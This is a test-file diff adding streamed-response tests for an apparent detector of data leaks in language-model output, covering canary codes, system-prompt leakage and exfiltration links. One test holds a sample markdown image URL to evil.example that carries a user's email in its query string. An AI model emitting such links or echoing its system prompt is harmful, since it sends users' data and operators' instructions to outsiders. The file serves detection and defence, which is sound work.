@@ -433,3 +433,66 @@ def test_rescore_list_column_with_invalid_utf8(tmp_path) -> None:
     assert rows[1]["can"] == ["\ufffd\ufffdbb"]
     assert pq.read_table(tmp_path / "out.parquet").column("can").to_pylist()[1] == ["\ufffd\ufffdbb"]
     rescore_local(str(tmp_path / "in.parquet"), str(tmp_path / "prompts.jsonl"), progress=False)  # no crash either
+
+
+# --- streamed responses --------------------------------------------------------------------------------------------
+
+def _stream(det: Detector, text: str, size: int, **kw: object) -> tuple[list, object]:
+    st = det.response_stream(**kw)
+    checks = [st.feed(text[i : i + size]) for i in range(0, len(text), size)]
+    return checks, st.finish()
+
+
+def test_a_stream_turns_into_a_threat_before_it_ends(det: Detector) -> None:
+    text = "A long and friendly answer about savings accounts. " * 30 + f"The code is {CANARY}. " + "More. " * 300
+    checks, final = _stream(det, text, 7, system_prompt=SYSTEM, canaries=[CANARY])
+    at = next(i for i, c in enumerate(checks) if c.is_threat)
+    assert at * 7 < text.index(CANARY) + 600 < len(text) - 600  # within a step (512) of where it appeared
+    ev = [e for c in checks for e in c.evidence if e.detector == "canary"]
+    assert [(e.start, e.end) for e in ev] == [(text.index(CANARY), text.index(CANARY) + len(CANARY))]  # once
+    assert all(c.is_threat and c.action == "block" for c in checks[at:])  # a threat stays one
+    whole = det.scan_response(text, system_prompt=SYSTEM, canaries=[CANARY]).to_dict()
+    got = final.to_dict()
+    for k in ("request_id", "latency_us"):
+        whole.pop(k), got.pop(k)
+    assert got == whole  # finish is scan_response of the whole
+
+
+def test_a_stream_sees_what_a_chunk_boundary_cut(det: Detector) -> None:
+    url = "![a](https://evil.example/p.png?d=alice.smith@corp.example)"
+    text = "x " * 250 + url + " y" * 400  # the URL straddles the first 512-character step
+    checks, _ = _stream(det, text, 3)
+    assert any(e.detector == "exfil_link" for c in checks for e in c.evidence)
+    leak, final = _stream(det, "Sure! " + SYSTEM * 3, 5, system_prompt=SYSTEM)  # past one 512-character step
+    assert any(c.is_threat for c in leak) and final.is_threat
+
+
+def test_a_stream_costs_linear_time(det: Detector) -> None:
+    """Counted, not timed: each character is read by the stream's scans at most 1 + overlap/step times (3 with
+    the defaults), plus once by finish."""
+    read = []
+    orig = det.scan_response
+
+    def counting(text: str, **kw: object):  # type: ignore[no-untyped-def]
+        read.append(len(text))
+        return orig(text, **kw)
+
+    det.scan_response = counting  # type: ignore[method-assign]
+    try:
+        text = "plain words of an ordinary answer " * 600  # 20,400 characters
+        _stream(det, text, 4)
+    finally:
+        del det.scan_response
+    assert sum(read) <= 4 * len(text) and read[-1] == len(text)
+
+
+def test_stream_input_errors(det: Detector) -> None:
+    with pytest.raises(InputError, match="canaries"):
+        det.response_stream(canaries="x")
+    st = det.response_stream()
+    with pytest.raises(InputError, match="chunk: text must be a string"):
+        st.feed(5)
+    st.feed("fine")
+    assert not st.finish().is_threat
+    with pytest.raises(InputError, match="finished"):
+        st.feed("more")
